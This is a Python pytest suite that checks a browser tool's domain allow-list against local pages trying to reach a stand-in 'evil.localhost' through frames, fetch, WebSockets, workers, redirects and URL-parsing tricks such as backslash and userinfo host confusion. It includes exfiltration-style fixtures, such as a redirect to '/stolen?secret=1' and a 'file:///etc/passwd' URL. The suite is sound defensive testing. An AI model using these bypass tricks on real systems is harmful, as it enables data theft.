"""The browser's allow-list holds for every request a real headless Chromium makes, not only the model's URL.

The tool (`BrowserTool.run`, as the `browse_web` tool calls it) drives the local Browser (a real Chromium per
session, over CDP) through the local data plane. One local web server answers for two names that Chromium
resolves to 127.0.0.1 itself (every `*.localhost` name): `docs.localhost`, the allowed site, and
`evil.localhost`, the site the page tries to reach. The server records every request with its Host, so each
test asserts that evil got nothing. Pages report that their attempt is over by requesting a `/done-...` path
on the allowed site; the test waits for that request, never for a time.
"""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from agentcore_agent import browser_guard
from agentcore_agent.browser import BrowserTool
from agentcore_agent.browser_allowlist import check_url, url_allowed, url_host
from playwright.sync_api import sync_playwright

from local.browser import LocalBrowser
from local.chromium import chromium_path
from local.data_plane import DataPlane
from local.http_server import JsonHandler, LocalServer

pytest_plugins = ["tests.agent.gateway_fixtures"]  # aws_env

BROWSER_ID = "agentcore_dev_browser-AbCdEf1234"
ALLOWED = "docs.localhost"
OTHER = "docs2.localhost"  # a second allowed site: its frames run in their own process (site isolation)
EVIL = "evil.localhost"
WAIT_SECONDS = 60  # generous: the suite shares a loaded machine

pytestmark = pytest.mark.skipif(chromium_path() is None, reason="Debian's chromium is not installed")


# a script that fetches a URL of its own site which redirects to evil, then reports that it is done
AFTER_REDIRECT = "fetch('/redirect').catch(() => 0).then(() => fetch('/done-{way}'))"


def pages(evil: str, other: str, allowed: str) -> dict[str, str]:
    """Pages of the allowed sites, each trying one way out to `evil` (the evil origin's root URL).

    `other` and `allowed` are the root URLs of the two allowed sites: a frame of one in a page of the other
    runs out of process (a CDP target of its own).
    """
    html = "<html><head><title>{title}</title></head><body><p>{title}</p>{body}</body></html>"
    bodies = {
        "/frame": f"<iframe src='{evil}frame' onload=\"fetch('/done-frame')\"></iframe>",
        "/fetch": f"<script>fetch('{evil}data').catch(() => fetch('/done-fetch'))</script>",
        "/image": f"<img src='{evil}pixel.png' onerror=\"fetch('/done-image')\">",
        "/socket": (
            f"<script>new WebSocket('{evil.replace('http', 'ws')}ws')"
            ".onclose = () => fetch('/done-socket')</script>"
        ),
        "/worker": (
            "<script>navigator.serviceWorker.register('/sw.js')"
            ".then(r => fetch('/done-worker?registered=' + !!r), () => fetch('/done-worker?failed'))</script>"
        ),
        "/leave": f"<script>addEventListener('load', () => {{ location.href = '{evil}away'; }})</script>",
        "/plain": "<a href='/plain'>Again</a>",
        # out-of-process frames of the second allowed site, each redirected to evil in its own target
        "/oopif-fetch": f"<iframe src='{other}fetches-redirect'></iframe>",
        "/fetches-redirect": f"<script>{AFTER_REDIRECT.format(way='oopif-fetch')}</script>",
        "/oopif-navigate": (
            f"<iframe src='{other}navigates-redirect' onload=\"++this.dataset.loads == 2 && "
            "fetch('/done-oopif-navigate')\" data-loads=0></iframe>"
        ),
        "/navigates-redirect": "<script>onload = () => { location.href = '/redirect'; };</script>",
        "/oopif-nested": f"<iframe src='{other}nests'></iframe>",
        "/nests": f"<iframe src='{allowed}fetches-nested'></iframe>",  # docs in docs2 in docs
        "/fetches-nested": f"<script>{AFTER_REDIRECT.format(way='oopif-nested')}</script>",
        # workers: a fetch to evil, then one redirected to evil
        "/dedicated-worker": "<script>new Worker('/worker.js?way=dedicated-worker')</script>",
        "/shared-worker": "<script>new SharedWorker('/worker.js?way=shared-worker')</script>",
    }
    return {path: html.format(title=path[1:], body=body) for path, body in bodies.items()}


class Site:
    """The local web server for both names; `requests` holds (host, path) of every request, in order."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, str]] = []
        self._changed = threading.Condition()
        site = self

        class Handler(JsonHandler):
            def do_GET(self) -> None:
                host = (self.headers.get("Host") or "").split(":")[0]
                with site._changed:
                    site.requests.append((host, self.path))
                    site._changed.notify_all()
                if self.path == "/redirect":
                    self.send_bytes(302, b"", {"Location": site.url("/stolen?secret=1", EVIL)})
                    return
                if self.path.startswith("/worker.js?way="):
                    way = self.path.partition("=")[2]
                    script = f"fetch('{site.url('/data', EVIL)}').catch(() => 0).then(() => {AFTER_REDIRECT})"
                    body = script.replace("{way}", way).encode()
                    self.send_bytes(200, body, {"Content-Type": "text/javascript"})
                    return
                page = pages(*(site.url("/", host) for host in (EVIL, OTHER, ALLOWED))).get(self.path)
                status, body = (200, page.encode()) if page else (404, b"not found")
                self.send_bytes(status, body, {"Content-Type": "text/html; charset=utf-8"})

        self._server = LocalServer(Handler, name="allowlist-site")
        self.port = self._server.port

    def url(self, path: str = "/", host: str = ALLOWED) -> str:
        return f"http://{host}:{self.port}{path}"

    def evil_requests(self) -> list[str]:
        with self._changed:
            return [path for host, path in self.requests if host == EVIL]

    def wait_for(self, path_prefix: str) -> str:
        """The first request whose path starts with `path_prefix`, once it arrived."""
        with self._changed:
            found = self._changed.wait_for(
                lambda: next((p for _, p in self.requests if p.startswith(path_prefix)), None), WAIT_SECONDS
            )
        assert found, f"the page never requested {path_prefix}"
        return found


class Agent:
    """Stands in for a Strands agent: the tool keys its session on the object and reads its session id."""

    def __init__(self) -> None:
        self.state = {"session_id": "allowlist-test-session"}


@pytest.fixture
def site() -> Iterator[Site]:
    running = Site()
    running._server.start()
    yield running
    running._server.stop()


@pytest.fixture
def browse(aws_env, tmp_path: Path, monkeypatch) -> Iterator[Callable[..., str]]:
    """`browse(action, url=...)`: the tool's one-line answer (a result's text), for one agent."""
    browser = LocalBrowser(BROWSER_ID, executable=str(chromium_path()), profiles_dir=tmp_path / "profiles")
    plane = DataPlane(browser=browser).start()
    monkeypatch.setenv("AWS_ENDPOINT_URL_BEDROCK_AGENTCORE", plane.endpoint_url)
    tool = BrowserTool(
        region="us-east-1", browser_id=BROWSER_ID, allowed_domains=(ALLOWED, OTHER), timeout_seconds=30
    )
    agent = Agent()

    def run(action: str, **arguments: str) -> str:
        result: dict[str, Any] = tool.run(agent, action, **arguments)
        text = "\n".join(block["text"] for block in result["content"] if "text" in block)
        assert "Traceback" not in text
        return text

    run.browser = browser  # type: ignore[attr-defined]
    yield run
    tool.close()
    plane.stop()
    browser.close()


def test_the_backslash_url_has_the_host_chromium_goes_to_and_is_refused_before_any_request(browse, site):
    url = f"http://{EVIL}:{site.port}\\@{ALLOWED}:{site.port}/"
    assert url_host(url) == EVIL  # urllib.parse says docs.localhost; Chromium (WHATWG) goes to evil
    answer = browse("open", url=url)
    assert answer.startswith(f"Refused: '{EVIL}' is not an allowed site") and "\n" not in answer
    assert site.requests == []


def test_a_redirect_to_another_site_is_refused_before_the_browser_follows_it(browse, site):
    answer = browse("open", url=site.url("/redirect"))
    assert answer == f"Refused: the page redirected to '{EVIL}', which is not an allowed site."
    assert site.evil_requests() == []
    assert "no page is open yet" in browse("read")  # the refused page was left


@pytest.mark.parametrize(
    "way", ["frame", "fetch", "socket"]
)  # an iframe, fetch(), a WebSocket (never routed)
def test_a_frame_a_fetch_or_a_websocket_to_another_site_is_blocked(browse, site, way):
    answer = browse("open", url=site.url(f"/{way}"))
    site.wait_for(f"/done-{way}")
    assert "URL: " + site.url(f"/{way}") in answer
    assert site.evil_requests() == []


@pytest.mark.parametrize("way", ["oopif-fetch", "oopif-navigate", "oopif-nested"])
def test_a_redirect_inside_a_frame_of_another_allowed_site_is_refused_before_it_is_followed(
    browse, site, way
):
    """The frame runs in its own process, a CDP target of its own: its redirect hops are paused there too."""
    answer = browse("open", url=site.url(f"/{way}"))
    site.wait_for(f"/done-{way}")
    assert "URL: " + site.url(f"/{way}") in answer
    assert site.evil_requests() == []
    assert f"blocked this page's requests to sites not allowed: {EVIL}" in browse("read")


@pytest.mark.parametrize("way", ["dedicated-worker", "shared-worker"])
def test_a_worker_cannot_fetch_from_another_site_nor_be_redirected_there(browse, site, way):
    browse("open", url=site.url(f"/{way}"))
    site.wait_for(f"/done-{way}")
    assert site.evil_requests() == []


def test_an_image_from_another_site_is_blocked_and_the_answer_says_so(browse, site):
    browse("open", url=site.url("/image"))
    site.wait_for("/done-image")
    assert f"blocked this page's requests to sites not allowed: {EVIL}" in browse("read")
    assert site.evil_requests() == []


def test_a_page_cannot_register_a_service_worker(browse, site):
    browse("open", url=site.url("/worker"))
    assert site.wait_for("/done-worker") == "/done-worker?registered=false"
    assert ("docs.localhost", "/sw.js") not in site.requests


@pytest.mark.parametrize("action", ["read", "screenshot"])
def test_a_page_that_navigates_away_after_load_is_refused(browse, site, action):
    browse("open", url=site.url("/leave"))
    (session,) = browse.browser.ledger.started_sessions()
    chromium = browse.browser.chromium_of(session)
    with sync_playwright() as playwright:  # a second CDP client watches the page: the test waits on its event
        watcher = playwright.chromium.connect_over_cdp(chromium.ws_url)
        (page,) = watcher.contexts[0].pages
        page.wait_for_url(lambda url: not url.startswith(site.url("/leave")), timeout=WAIT_SECONDS * 1000)
        watcher.close()
    answer = browse(action)
    assert answer == f"Refused: the page went to '{EVIL}', which is not an allowed site; it was not loaded."
    assert site.evil_requests() == []
    assert "no page is open yet" in browse("read")  # the refused page was left


def test_other_schemes_are_refused(browse, site):
    for url in ("javascript:alert(1)", "data:text/html,<p>hi", "file:///etc/passwd", "chrome://settings"):
        assert browse("open", url=url) == f"Refused: only http(s) pages can be opened, not {url!r}."
    assert site.requests == []


def test_a_redirect_the_browser_followed_past_the_guard_is_refused(browse, site, monkeypatch):
    """The backstop: a hop the interception let through (here every hop is continued unchecked) is refused."""
    checked = browser_guard.RequestGuard._paused

    async def hops_unchecked(guard: Any, cdp: Any, event: dict[str, Any]) -> None:
        if event.get("redirectedRequestId"):
            await cdp.send("Fetch.continueRequest", {"requestId": event["requestId"]})
        else:
            await checked(guard, cdp, event)

    monkeypatch.setattr(browser_guard.RequestGuard, "_paused", hops_unchecked)
    answer = browse("open", url=site.url("/redirect"))
    assert answer == f"Refused: the page reached '{EVIL}' through a redirect, which is not an allowed site."
    assert site.evil_requests() == [
        "/stolen?secret=1"
    ]  # what the backstop cannot prevent, it refuses to show


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://evil.test\\@docs.example.test/", "evil.test"),  # backslash: a path separator (WHATWG)
        ("https://docs.example.test@evil.test/", "evil.test"),  # userinfo
        ("https://docs.exa\tmple.te\nst/", "docs.example.test"),  # tabs and newlines are stripped
        ("HTTPS://DOCS.Example.TEST./a", "docs.example.test"),  # case, trailing dot
        ("https://docs.ex%61mple.test/", "docs.example.test"),  # a percent-encoded host
        ("https://b\u00fccher.example.com/", "xn--bcher-kva.example.com"),  # IDNA
        ("https://0x7f.1/", "127.0.0.1"),  # an IPv4 address in hex
        ("javascript:alert(1)", None),
        ("https://docs.example.test:99999/", None),  # invalid: a browser refuses it too
    ],
)
def test_url_host_is_the_host_chromium_connects_to(url, host):
    assert url_host(url) == host


def test_url_allowed_matches_exact_hosts_and_subdomains_only():
    domains = ("docs.example.test", "*.example.com")
    assert url_allowed("https://DOCS.example.test./x", domains)
    assert url_allowed("https://a.b.example.com/", domains)
    assert not url_allowed("https://example.com/", domains)
    assert not url_allowed("https://evil-docs.example.test/", domains)
    assert not url_allowed("wss://docs.example.test/", domains)  # sockets only where asked for
    assert "is not a valid URL" in check_url("https://docs.example.test:99999/", domains)
